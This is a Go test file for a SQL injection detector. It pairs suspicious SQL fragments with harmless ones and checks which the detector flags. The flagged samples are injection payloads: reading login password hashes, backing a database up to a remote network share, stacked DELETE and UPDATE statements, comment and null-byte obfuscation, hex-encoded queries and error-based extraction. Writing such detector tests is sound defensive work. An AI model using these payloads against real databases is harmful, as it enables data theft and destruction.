package inspect

import "testing"

func TestStatementsThatProbe(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, text string
		leaves     bool
	}{
		{"who-the-server-works-for", "select session_user;", true},
		{"what-the-server-is", "SELECT @@hostname -- x", true},
		{"settings", "(select current_setting('config_file'))", true},
		{"rights", "SELECT grantee FROM syscat.dbauth", true},
		{"logins", "select name, password from master..sysxlogins", true},
		{"rights-of-an-application", "SELECT user_id, role FROM roles", false},
		{"columns", "select version, name from releases", false},
		{"copy-to-another-machine", `backup database shop to disk='\\203.0.113.5\a\b.bak'`, true},
		{"copy-to-a-disk", `BACKUP DATABASE shop TO DISK = 'D:\nightly\shop.bak'`, false},
		{"comments-for-spaces", "SELECT/**/name/**/FROM/**/staff", true},
		{"hints", "SELECT /*+ INDEX(s) */ name FROM staff s", false},
		{"comment-in-a-word", "sel/**/ect 5 un/**/ion sel/**/ect 6", true},
		{"null-bytes", "SELECT\x00name\x00FROM\x00staff", true},
		{"digits-against-words", "select 3from[staff]", true},
		{"statement-cut-off", "DELETE FROM staff;--", true},
		{"statement-with-a-remark", "DELETE FROM staff; -- leavers of May", false},
		{"second-statement-cut-off", "abs(4);UPDATE staff SET pay = 9 -- -", true},
		{"condition-without-value", "AND owner = '", true},
		{"condition", "owner = 'Ida'", false},
		{"sub-query-without-statement", "in (select name", true},
		{"call-behind-a-value", "x' || helpdesk.reset('root') || '", true},
		{"call-of-a-program", "greet('Ida' + name('x') + 'y')", false},
		{"condition-on-a-document", `OR '{"a": 1}'::jsonb @> '{"a": 1}'`, true},
		{"error-that-tells", "concat(0x7e,(select 4),0x7e)", true},
		{"codes-of-characters", "CHR(65)||CHR(66)||CHR(67)", true},
		{"statement-in-hex", "0x73656c65637420312c322066726f6d2074", true},
		{"statement-in-wide-hex", "0x730065006c00650063007400200031002c003200 ...", true},
		{"number-in-hex", "0xdeadbeefdeadbeefdeadbeefdeadbeef", false},
		{"many-line-breaks", "(select substr\n\n\n\n\n\n\n\n(\n\n\n\n\nname,1,1\n)\nfrom staff limit 1,1)", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if got := verifySQLValue([]byte(tt.text), span{}); got != tt.leaves {
				t.Errorf("verifySQLValue(%q) = %v, want %v", tt.text, got, tt.leaves)
			}
		})
	}
}
